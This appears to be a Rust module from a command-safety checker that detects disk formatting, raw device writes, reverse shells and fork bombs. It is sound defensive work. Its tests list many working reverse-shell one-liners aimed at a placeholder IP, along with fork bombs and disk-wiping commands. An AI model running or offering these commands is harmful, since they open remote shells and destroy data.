//! The detectors run on every command: filesystem formatting, raw device writes, reverse shells and
//! fork bombs; recursive deletion is in [`super::delete`].

use super::CommandCategory;
use super::analyze::{Analyzer, Outcome};
use super::args::{OptSpec, has_flag, operands, option_value, parse_args};
use super::delete::RmStyle;
use super::value::{Field, Scope};

/// Disk device names under `/dev/` (not `null`, `zero`, `tty`, `fd/*`, ...).
const DISK_DEVICES: [&str; 24] = [
    "sd", "hd", "vd", "xvd", "nvme", "mmcblk", "disk", "rdisk", "mapper/", "md", "dm-", "loop",
    "nbd", "sr", "mem", "kmem", "port", "block/", "zd", "rbd", "bcache", "mtd", "ubi", "root",
];

const PARTITIONERS: [&str; 7] = [
    "fdisk", "sfdisk", "cfdisk", "gdisk", "sgdisk", "cgdisk", "parted",
];

/// Filesystem creators besides `mkfs*` and `newfs*`.
const MAKE_FS: [&str; 10] = [
    "mke2fs",
    "mkswap",
    "mkntfs",
    "mkdosfs",
    "mkexfatfs",
    "mkfatfs",
    "mkudffs",
    "mkreiserfs",
    "mkhfs",
    "mformat",
];

const DISKUTIL_ERASE: [&str; 8] = [
    "erasedisk",
    "erasevolume",
    "partitiondisk",
    "zerodisk",
    "secureerase",
    "randomdisk",
    "reformat",
    "deletecontainer",
];

fn is_mkfs(key: &str) -> bool {
    key.starts_with("mkfs") || key.starts_with("newfs") || MAKE_FS.contains(&key)
}

impl Analyzer {
    /// Destructive and network-facing shapes of a command.
    pub(super) fn detect(&mut self, name: &str, key: &str, argv: &[Field], scope: &mut Scope) {
        let args = &argv[1..];
        for a in args {
            if a.text.starts_with("/dev/tcp/") || a.text.starts_with("/dev/udp/") {
                self.check_network_path(a, name);
            }
        }
        match key {
            "rm" => self.check_rm(argv, RmStyle::Unix, scope),
            // Deleting what `find` found deletes its trees, whatever the program.
            "unlink" => self.check_rm(argv, RmStyle::Unix, scope),
            // Node's recursive delete tools (`npx rimraf DIR`).
            "rimraf" | "del-cli" => {
                let mut rm = vec![argv[0].clone(), Field::known("-r")];
                rm.extend(args.iter().filter(|a| !a.text.starts_with('-')).cloned());
                self.check_rm(&rm, RmStyle::Unix, scope);
            }
            // PowerShell's Remove-Item and its aliases, and cmd's `rd /s`.
            "remove-item" | "ri" | "rd" | "rmdir" | "del" | "erase" => {
                self.check_rm(argv, RmStyle::Windows, scope)
            }
            // Unknown until run time: judge it by the shapes that follow.
            "?" => {
                self.check_rm(argv, RmStyle::Unknown, scope);
                self.check_dd(argv, scope);
            }
            "rsync" => self.check_rsync(args, scope),
            "find" => self.check_find(argv, scope),
            "dd" => self.check_dd(argv, scope),
            "shred" | "tee" => {
                if key == "shred" {
                    self.check_rm(argv, RmStyle::Unix, scope);
                }
                for a in operands(args) {
                    self.check_device(a, scope, &format!("{name} writes to"));
                }
            }
            "cp" | "mv" | "install" | "ddrescue" | "pv" => {
                if let [_, .., last] = operands(args).as_slice() {
                    self.check_device(last, scope, &format!("{name} writes to"));
                }
            }
            "socat" => {
                if let Some(addr) = args.iter().find(|a| {
                    let lower = a.text.to_ascii_lowercase();
                    lower.starts_with("exec:") || lower.starts_with("system:")
                }) {
                    let detail = format!("socat connects `{}` to another address", addr.text);
                    self.add_finding(CommandCategory::ReverseShell, detail);
                }
            }
            "mkfifo" => self.fifo = true,
            "mknod" => self.fifo |= args.iter().any(|a| a.text == "p"),
            k if is_nc(k) => self.check_nc(name, args),
            k if is_mkfs(k)
                || PARTITIONERS.contains(&k)
                || matches!(
                    k,
                    "wipefs" | "blkdiscard" | "cryptsetup" | "diskutil" | "format" | "format.com"
                ) =>
            {
                self.check_format(name, k, args);
            }
            _ => {}
        }
        self.network |= is_network_tool(key, args);
    }

    pub(super) fn check_network_path(&mut self, f: &Field, who: &str) {
        if f.text.contains("/dev/tcp/") || f.text.contains("/dev/udp/") {
            let detail = format!("{who} opens the network connection {}", f.text);
            self.add_finding(CommandCategory::ReverseShell, detail);
        }
    }

    fn check_dd(&mut self, argv: &[Field], scope: &Scope) {
        for a in &argv[1..] {
            if let Some(dev) = a.text.strip_prefix("of=") {
                self.check_device(
                    &Field {
                        text: dev.to_owned(),
                        ..a.clone()
                    },
                    scope,
                    "dd writes to",
                );
            }
        }
    }

    pub(super) fn check_device(&mut self, target: &Field, scope: &Scope, what: &str) {
        if let Some(device) = self.disk_device(target, scope) {
            self.add_finding(
                CommandCategory::RawDeviceWrite,
                format!("{what} {device}, a disk device"),
            );
        }
    }

    /// The device path when `target` is a disk (`/dev/sda`, `/dev/nvme0n1`, `/dev/disk2`, ...).
    fn disk_device(&self, target: &Field, scope: &Scope) -> Option<String> {
        if target.dynamic {
            return None;
        }
        let path = self
            .canonical(&target.text, scope)
            .unwrap_or_else(|| target.text.clone());
        let name = path.strip_prefix("/dev/")?;
        DISK_DEVICES
            .iter()
            .any(|d| name.starts_with(d))
            .then_some(path)
    }

    fn check_format(&mut self, name: &str, key: &str, args: &[Field]) {
        let ops = operands(args);
        let target = ops
            .last()
            .map_or_else(|| "a device".to_owned(), |f| f.text.clone());
        let lower: Vec<String> = args.iter().map(|a| a.text.to_ascii_lowercase()).collect();
        let any = |words: &[&str]| lower.iter().any(|w| words.contains(&w.as_str()));
        let detail = match key {
            k if is_mkfs(k) => Some(format!("{name} creates a new filesystem on {target}, erasing it")),
            "wipefs" => {
                let (opts, _) = parse_args(args, OptSpec { short: "otp", long: &["offset", "types", "backup"] }, false);
                (has_flag(&opts, &["a", "all"]) || option_value(&opts, &["o", "offset"]).is_some())
                    .then(|| format!("wipefs erases the filesystem signatures of {target}"))
            }
            "blkdiscard" => Some(format!("blkdiscard discards every block of {target}")),
            "cryptsetup" => any(&["luksformat", "erase", "luksErase", "reencrypt"]).then(|| format!("cryptsetup reformats {target}")),
            "diskutil" => lower.iter().find(|w| DISKUTIL_ERASE.contains(&w.as_str())).map(|verb| format!("diskutil {verb} erases a disk")),
            "format" | "format.com" => args
                .iter()
                .find(|a| matches!(a.text.as_bytes(), [letter, b':', ..] if letter.is_ascii_alphabetic() && a.text.len() <= 3))
                .map(|drive| format!("format erases drive {}", drive.text)),
            _ => {
                let listing = any(&["-l", "--list", "-d", "--dump", "-j", "--json", "-p", "--print", "print", "-v", "--version", "-h", "--help"]);
                let modifying = any(&["mklabel", "mktable", "mkpart", "rm", "resizepart", "rescue", "mkfs"]);
                let device = ops.iter().find(|f| f.dynamic || f.text.starts_with("/dev/"));
                match device {
                    Some(dev) if !listing || modifying => Some(format!("{name} rewrites the partition table of {}", dev.text)),
                    _ => None,
                }
            }
        };
        if let Some(detail) = detail {
            self.add_finding(CommandCategory::FilesystemFormat, detail);
        }
    }

    /// `nc -e PROG`, `-c CMD`, `--exec`, `--sh-exec`, `--lua-exec`, in any order or cluster.
    fn check_nc(&mut self, name: &str, args: &[Field]) {
        const VALUED: &str = "pswiqxXIOTVMmgG";
        let exec = args.iter().find(|a| {
            let t = a.text.as_str();
            match t.strip_prefix("--") {
                Some(long) => ["exec", "sh-exec", "lua-exec"].iter().any(|o| {
                    long == *o || long.strip_prefix(o).is_some_and(|r| r.starts_with('='))
                }),
                // Options after one that takes a value are part of that value.
                None if t.starts_with('-') => t
                    .chars()
                    .skip(1)
                    .take_while(|c| !VALUED.contains(*c))
                    .any(|c| c == 'e' || c == 'c'),
                None => false,
            }
        });
        if let Some(option) = exec {
            let detail = format!(
                "{name} {} hands a program to the network connection",
                option.text
            );
            self.add_finding(CommandCategory::ReverseShell, detail);
        }
    }

    /// A function whose body runs itself twice through a pipe, or in the background.
    pub(super) fn check_self_calls(&mut self, outcomes: &[Outcome], background: bool) {
        let Some(name) = self.call_stack.last().cloned() else {
            return;
        };
        let calls = outcomes
            .iter()
            .filter(|o| o.program.as_deref() == Some(name.as_str()))
            .count();
        let how = match calls {
            0 => return,
            1 if !background => return,
            1 => "in the background",
            _ => "twice through a pipe",
        };
        self.add_finding(
            CommandCategory::ForkBomb,
            format!("function {name} calls itself {how}, multiplying processes without end"),
        );
    }

    /// `telnet H P | sh | telnet H P`: a shell between two network connections.
    pub(super) fn check_network_shell(&mut self, outcomes: &[Outcome]) {
        let bridged = outcomes.iter().enumerate().any(|(j, o)| {
            o.shell_stdin
                && outcomes[..j].iter().any(|p| p.network)
                && outcomes[j + 1..].iter().any(|p| p.network)
        });
        if bridged {
            self.add_finding(
                CommandCategory::ReverseShell,
                "a shell reads commands from a network connection and sends its output back"
                    .to_owned(),
            );
        }
    }
}

fn is_nc(key: &str) -> bool {
    matches!(
        key,
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "cryptcat" | "pnc"
    )
}

pub(super) fn is_network_tool(key: &str, args: &[Field]) -> bool {
    is_nc(key)
        || matches!(key, "telnet" | "socat")
        || (key == "openssl" && args.first().is_some_and(|a| a.text == "s_client"))
}

#[cfg(test)]
mod tests {
    use crate::detect::shell::CommandCategory::{
        FilesystemFormat, ForkBomb, RawDeviceWrite, ReverseShell,
    };
    use crate::detect::shell::tests::{assert_clean, assert_flags};

    #[test]
    fn other_deleting_programs() {
        assert_flags(
            crate::detect::shell::CommandCategory::RecursiveDelete,
            &[
                "find ~ -exec shred -u {} \\;",
                "find ~ -exec unlink {} \\;",
                "find ~ -type f | xargs shred -u",
                "npx rimraf ~",
                "npx -y del-cli ~",
                "pnpm dlx rimraf ~",
                "bunx rimraf ~",
                "yarn dlx rimraf ~",
            ],
        );
        assert_clean(&["npx rimraf dist", "shred -u secret.txt", "unlink x"]);
    }

    #[test]
    fn filesystem_format() {
        assert_flags(
            FilesystemFormat,
            &[
                "mkfs.ext4 /dev/sdb1",
                "mkfs -t ext4 /dev/sda",
                "sudo mkfs.xfs -f /dev/nvme0n1p2",
                "mke2fs /dev/sda1",
                "mkswap /dev/sda2",
                "mkntfs -Q /dev/sdb1",
                "newfs_apfs /dev/disk2s1",
                "wipefs -a /dev/sda",
                "wipefs --all /dev/sda",
                "fdisk /dev/sda",
                "sfdisk /dev/sda < layout",
                "parted -s /dev/sda mklabel gpt",
                "sgdisk --zap-all /dev/sda",
                "gdisk /dev/nvme0n1",
                "diskutil eraseDisk JHFS+ X /dev/disk2",
                "diskutil zeroDisk disk3",
                "diskutil secureErase 0 disk2",
                "format C: /q",
                "blkdiscard /dev/sda",
                "cryptsetup luksFormat /dev/sdb",
            ],
        );
        assert_clean(&[
            "fdisk -l",
            "sfdisk -l /dev/sda",
            "parted /dev/sda print",
            "diskutil list",
            "wipefs /dev/sda",
            "lsblk",
            "df -h",
        ]);
    }

    #[test]
    fn raw_device_writes() {
        assert_flags(
            RawDeviceWrite,
            &[
                "dd if=/dev/zero of=/dev/sda bs=1M",
                "dd if=image.iso of=/dev/disk2",
                "sudo dd of=/dev/nvme0n1 if=x",
                "dd if=x of=/dev/mmcblk0",
                "dd if=x of=/dev/mapper/root",
                "dd if=x of=/dev/md0",
                "dd if=x of=/dev/xvda",
                "dd if=x of=/dev/vdb",
                "dd if=x of=/dev/hda",
                "cat x > /dev/nvme0n1",
                "echo 1 >/dev/sda",
                "cat x.img >> /dev/sdb",
                "shred /dev/sdb",
                "shred -n 3 -z /dev/sda",
                "cp x.img /dev/sda",
                "pv x.img > /dev/sdc",
                "tee /dev/sda < x",
                "dd if=x of=/dev/../dev/sda",
            ],
        );
        assert_clean(&[
            "dd if=/dev/zero of=disk.img bs=1M count=10",
            "dd if=x of=/dev/null",
            "echo hi > /dev/null",
            "echo hi >/dev/stderr 2>/dev/stdout",
            "cat /dev/sda > backup.img",
            "echo hi > /dev/tty",
            "cmd 2>/dev/fd/1",
            "shred -u secret.txt",
        ]);
    }

    #[test]
    fn fork_bombs() {
        assert_flags(
            ForkBomb,
            &[
                ":(){ :|:& };:",
                ":(){ :|: & }; :",
                "bomb(){ bomb|bomb& };bomb",
                "f() { f | f; }; f",
                "function f { f & f; }; f",
                "x(){ x & }; x",
                "bash -c ':(){ :|:& };:'",
                "eval ':(){ :|:&};:'",
                "perl -e 'fork while fork'",
                "python -c 'import os\nwhile True: os.fork()'",
                "python3 -c 'import os\nwhile 1:\n    os.fork()'",
                "ruby -e 'loop { fork }'",
            ],
        );
        assert_clean(&[
            "walk(){ for d in *; do walk \"$d\"; done; }; walk",
            "f() { g | h; }; f",
            "f() { sleep 1 & }; f",
            "python -c 'import os; pid = os.fork()'",
        ]);
    }

    #[test]
    fn reverse_shells() {
        assert_flags(
            ReverseShell,
            &[
                "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
                "sh -i >& /dev/udp/1.2.3.4/53 0>&1",
                "0<&196;exec 196<>/dev/tcp/1.2.3.4/4444; sh <&196 >&196 2>&196",
                "exec 5<>/dev/tcp/1.2.3.4/80",
                "cat < /dev/tcp/1.2.3.4/80",
                "X=/dev/tcp/1.2.3.4/1; bash -i > $X 0>&1",
                "nc -e /bin/sh 1.2.3.4 4444",
                "nc -lvp 4444 -e /bin/sh",
                "nc -nve /bin/bash 1.2.3.4 1",
                "nc 1.2.3.4 1 -e /bin/sh",
                "nc -c bash 1.2.3.4 1",
                "ncat --exec /bin/sh 1.2.3.4 1",
                "ncat --sh-exec 'bash' 1.2.3.4 1",
                "ncat --lua-exec=x.lua 1.2.3.4 1",
                "nc.traditional -e /bin/sh 1.2.3.4 1",
                "busybox nc 1.2.3.4 1 -e sh",
                "socat tcp:1.2.3.4:4444 EXEC:/bin/sh,pty,stderr",
                "socat TCP-LISTEN:4444 system:bash",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
                "mknod /tmp/p p && /bin/sh 0</tmp/p | telnet 1.2.3.4 1 1>/tmp/p",
                "telnet 1.2.3.4 80 | /bin/sh | telnet 1.2.3.4 81",
                "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
                "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'",
                "ruby -rsocket -e 'f=TCPSocket.open(\"1.2.3.4\",1).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
                "php -r '$sock=fsockopen(\"1.2.3.4\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
                "node -e 'var n=require(\"net\"),c=require(\"child_process\").spawn(\"/bin/sh\");var s=new n.Socket();s.connect(1,\"1.2.3.4\")'",
                "node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 1.2.3.4 1\")'",
                "lua -e \"require('socket');t=socket.tcp();t:connect('1.2.3.4','1');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
                "awk 'BEGIN {s = \"/inet/tcp/0/1.2.3.4/1\"; while(1) { s |& getline c; print c |& s }}' /dev/null",
                "powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('1.2.3.4',1);iex $d\"",
            ],
        );
        assert_clean(&[
            "nc -zv example.com 443",
            "nc -l 8080 > received.txt",
            "socat - TCP:example.com:80",
            "echo 'bash -i >& /dev/tcp/1.2.3.4/4444' >> notes.md",
            "python3 -c 'import socket; print(socket.gethostname())'",
            "mkfifo /tmp/pipe && cat /tmp/pipe",
        ]);
    }
}
